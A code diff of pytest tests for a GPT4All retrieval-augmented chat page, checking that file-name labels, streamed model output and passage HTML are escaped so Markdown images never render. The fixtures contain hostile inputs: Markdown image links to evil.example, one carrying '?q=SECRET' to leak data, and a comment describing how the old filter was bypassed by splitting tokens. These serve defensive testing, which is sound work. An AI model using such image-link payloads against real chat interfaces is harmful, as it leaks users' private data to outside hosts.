@@ -10,6 +10,7 @@ from types import ModuleType
 import pytest
 
 from gpt4all_rag import Source, SyncReport
+from tests.app.test_markdown import assert_inert
 
 ROOT = Path(__file__).resolve().parents[2]
 
@@ -60,12 +61,19 @@ def test_source_label_names_file_and_page(page: ModuleType) -> None:
     paged = Source(number=1, file="manual.pdf", page=2, text="t", score=0.5, similarity=0.6)
     unpaged = Source(number=3, file="my_notes.md", page=None, text="t", score=0.5, similarity=0.6)
 
-    assert page.source_label(paged) == "[1] manual.pdf · page 2"
-    assert page.source_label(unpaged) == "[3] my\\_notes.md"
+    assert page.source_label(paged) == "\\[1\\] manual\\.pdf · page 2"
+    assert page.source_label(unpaged) == "\\[3\\] my\\_notes\\.md"
 
 
-def test_md_escape_keeps_names_literal(page: ModuleType) -> None:
-    assert page.md_escape("a_b*c[1]$5.pdf") == "a\\_b\\*c\\[1\\]\\$5.pdf"
+def test_a_hostile_file_name_in_a_label_stays_text(page: ModuleType) -> None:
+    hostile = Source(
+        number=2, file="x.![](http://evil.example/a.png)", page=1, text="t", score=0.5,
+        similarity=0.6,
+    )  # fmt: skip
+
+    assert page.source_label(hostile) == (
+        "\\[2\\] x\\.\\!\\[\\]\\(`http://evil.example/a.png`\\) · page 1"
+    )
 
 
 def test_document_file_stays_inside_the_folder(page: ModuleType, tmp_path: Path) -> None:
@@ -94,17 +102,43 @@ def test_count(page: ModuleType) -> None:
     ]
 
 
-def test_inert_images_keeps_links_but_not_images(page: ModuleType) -> None:
-    text = "See [the manual](https://example.org) ![x](https://evil.example/?q=secret)!"
+def test_a_stream_is_rendered_whole_after_each_token(page: ModuleType) -> None:
+    # The old filter's bypass: "\\" and "![...](...)" in different tokens.
+    tokens = ["See", " \\", "![x](https://evil.example/?q=SECRET)", " done."]
 
-    assert page.inert_images(text) == (
-        "See [the manual](https://example.org) \\![x](https://evil.example/?q=secret)!"
+    shown = list(page.rendered_stream(iter(tokens)))
+
+    assert shown == [
+        "See▌",
+        "See \\\\▌",
+        "See \\!x \\(`https://evil.example/?q=SECRET`\\)▌",
+        "See \\!x \\(`https://evil.example/?q=SECRET`\\) done\\.▌",
+    ]
+
+
+def test_a_split_image_is_never_live_while_streaming(page: ModuleType) -> None:
+    tokens = ["Wow", "!", "[x](https://evil.example/a.png)", " [r]", "\n\n[r]: http://e.example/"]
+
+    shown = list(page.rendered_stream(iter(tokens)))
+
+    assert shown[2] == "Wowx \\(image not loaded\\: `https://evil.example/a.png`\\)▌"
+    for markdown in shown:
+        assert_inert(markdown)
+
+
+def test_passage_html_never_holds_a_blank_line(page: ModuleType) -> None:
+    # A blank line would end the HTML block, and Markdown (an image) would follow.
+    text = "a\r\rb\r\n\r\n![x](http://evil.example/i.png)\n\nc"
+
+    html = page.passage_html(text, "zzz")
+
+    assert html == (
+        '<div class="passage">a<br><br>b<br><br>![x](http://evil.example/i.png)<br><br>c</div>'
     )
 
 
-def test_inert_image_stream_catches_a_split_image(page: ModuleType) -> None:
-    tokens = ["Wow", "!", "[x](https://evil.example/a.png)", " Done", "!"]
+def test_the_feedback_store_is_one_per_file_and_process(page: ModuleType, tmp_path: Path) -> None:
+    first = page.feedback_store_at(str(tmp_path / "feedback.jsonl"))
 
-    streamed = list(page.inert_image_stream(iter(tokens)))
-
-    assert "".join(streamed) == "Wow\\![x](https://evil.example/a.png) Done!"
+    assert page.feedback_store_at(str(tmp_path / "feedback.jsonl")) is first
+    assert page.feedback_store_at(str(tmp_path / "other.jsonl")) is not first
